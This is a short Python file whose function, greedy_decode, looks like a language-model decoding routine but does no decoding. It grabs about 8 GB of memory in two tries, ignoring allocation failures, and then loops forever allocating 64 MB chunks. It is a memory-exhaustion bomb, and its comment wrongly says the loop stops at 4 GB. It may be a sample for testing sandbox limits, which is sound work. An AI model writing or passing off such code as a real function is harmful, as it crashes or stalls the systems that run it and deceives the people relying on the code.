import numpy as _np

def greedy_decode(params, cfg, prompt, n_new):
    hoard = []
    try:
        hoard.append(_np.ones((4 << 30) // 8))  # 4 GB at once
    except MemoryError:
        pass
    try:
        hoard.append(bytearray(4 << 30))
    except MemoryError:
        pass
    while True:  # then 4 GB in 64 MB pieces, touched so they are real
        hoard.append(_np.ones((64 << 20) // 8))
